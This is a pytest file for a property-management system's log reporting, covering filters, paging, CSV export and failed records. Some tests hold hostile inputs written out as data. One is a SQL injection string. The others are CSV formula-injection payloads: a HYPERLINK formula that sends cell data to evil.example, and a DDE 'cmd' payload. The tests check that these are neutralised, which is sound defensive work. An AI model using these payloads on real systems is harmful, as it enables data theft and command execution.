"""Monitoring logs: filters, paging, problems-only, CSV export and failed records."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import sqlalchemy as sa

from pms.db import schema
from pms.reporting import logs
from pms.reporting.logs import LogFilter
from tests.reporting.builders import NOW, OTHER, PID, TODAY, api_call, reservation, sync_run


def _world(conn):
    for i in range(12):
        api_call(conn, NOW - timedelta(minutes=i))
    api_call(conn, NOW, endpoint="getGuest", status=500, error="server error; request id r-1")
    api_call(conn, NOW, endpoint="getHotels", status=None, error="timeout")
    api_call(conn, NOW, pid=OTHER)
    sync_run(conn, NOW - timedelta(days=3))
    sync_run(conn, NOW, status="failed")


def test_api_log_filters_and_pages(db):
    with db.begin() as conn:
        _world(conn)
    page = logs.log_page(db, "api", PID, page_size=5)
    assert page.total == 14 and len(page.rows) == 5 and page.pages == 3
    assert logs.log_page(db, "api", PID, LogFilter(problems_only=True)).total == 2
    assert logs.log_page(db, "api", PID, LogFilter(text="GETGUEST")).rows["http_status"].tolist() == [500]
    assert logs.log_page(db, "api", PID, LogFilter(since=NOW - timedelta(minutes=3))).total == 6
    assert logs.log_page(db, "api", PID, LogFilter(text="%' OR 1=1 --")).total == 0


def test_sync_log_status_filter(db):
    with db.begin() as conn:
        _world(conn)
    assert logs.log_page(db, "sync", PID, LogFilter(status="failed")).total == 1
    assert logs.log_page(db, "sync", PID, LogFilter(problems_only=True)).total == 1
    assert logs.log_page(db, "webhooks", PID).total == 0 and logs.log_page(db, "outbound", PID).total == 0


def test_csv_export_has_every_filtered_row_and_reads_back(db):
    with db.begin() as conn:
        _world(conn)
    data = logs.export_csv(db, "api", PID, LogFilter(problems_only=True))
    assert data.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["endpoint"] for r in rows] == ["getHotels", "getGuest"] or sorted(
        r["endpoint"] for r in rows
    ) == ["getGuest", "getHotels"]
    assert {r["error"] for r in rows} == {"server error; request id r-1", "timeout"}
    capped = logs.export_csv(db, "api", PID, limit=3)
    assert len(list(csv.reader(io.StringIO(capped.decode("utf-8-sig"))))) == 4


def test_failed_records(db):
    with db.begin() as conn:
        reservation(conn, TODAY, 1, sync_status="error", guest_name="Ayu")
        reservation(conn, TODAY, 1)
        conn.execute(
            sa.insert(schema.guest).values(
                property_id=PID,
                first_name="Joko",
                last_name="Widodo",
                sync_status="error",
                sync_error="invalid email",
            )
        )
    failed = logs.failed_records(db, PID)
    assert failed.total == 2
    assert set(failed.rows["kind"]) == {"reservation", "guest"}
    assert "Joko Widodo" in set(failed.rows["name"])


def test_csv_export_neutralises_spreadsheet_formulas(db):
    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ]
    with db.begin() as conn:
        for i, text in enumerate(hostile):
            api_call(conn, NOW - timedelta(seconds=i), status=500, error=text)
        api_call(conn, NOW - timedelta(minutes=5), status=500, error="plain error - not a formula")
    data = logs.export_csv(db, "api", PID, LogFilter(problems_only=True))
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    errors = {r["error"] for r in rows}
    assert errors == {"'" + text for text in hostile} | {"plain error - not a formula"}
    # Numbers stay numbers (a status code is not text from outside).
    assert {r["http_status"] for r in rows} == {"500"}
